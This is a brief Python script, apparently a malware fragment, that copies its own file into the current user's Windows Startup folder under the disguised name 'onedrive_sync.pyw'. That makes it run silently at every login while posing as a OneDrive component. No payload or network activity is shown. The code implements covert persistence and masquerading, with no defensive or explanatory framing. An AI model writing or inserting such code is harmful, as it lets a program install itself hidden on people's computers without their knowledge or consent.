import os
import shutil

folder = os.path.join(os.getenv("APPDATA"), "Microsoft", "Windows", "Start Menu", "Programs", "Startup")
shutil.copy(__file__, os.path.join(folder, "onedrive_sync.pyw"))
